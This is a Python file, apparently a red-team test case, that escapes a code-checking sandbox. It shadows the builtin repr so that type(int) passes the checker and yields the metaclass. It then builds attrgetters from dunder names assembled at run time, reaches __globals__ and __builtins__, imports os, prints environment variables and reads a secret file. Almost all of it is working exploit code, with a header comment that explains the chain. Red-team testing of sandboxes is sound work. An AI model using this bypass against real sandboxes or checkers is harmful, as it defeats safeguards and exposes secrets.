# family: class machinery (red-team round 14: type(x) reaching the tool's code)
# Chain: call_handler.call gives the arguments of str/repr/print/format/ascii the OPERAND flag ("they
# only make text"), without checking the name is still the builtin.  The tool defines its own
# `repr(x): return x`, so `repr(type(c))` is accepted and returns the class itself; with c = int
# that is the metaclass `type`.  type(attrgetter("x")) then builds getters with run-time names ->
# entry.__globals__ -> builtins -> __import__("os"), open(secret).
import operator


def repr(x):
    return x


def class_of(c):
    return repr(type(c))


def entry():
    meta = class_of(int)
    make = meta(operator.attrgetter("real"))
    u = "_"
    g = make(u + u + "globals" + u + u)(entry)
    b = g[u + u + "builtins" + u + u]
    imp = b[u + u + "import" + u + u] if isinstance(b, dict) else make(u + u + "import" + u + u)(b)
    osmod = imp("os")
    print("meta:", meta, "module:", osmod)
    print("env PATH:", osmod.environ.get("PATH"))
    opener = b["open"] if isinstance(b, dict) else make("open")(b)
    print("secret:", opener("/tmp/r14/work/secret.txt").read())


entry()
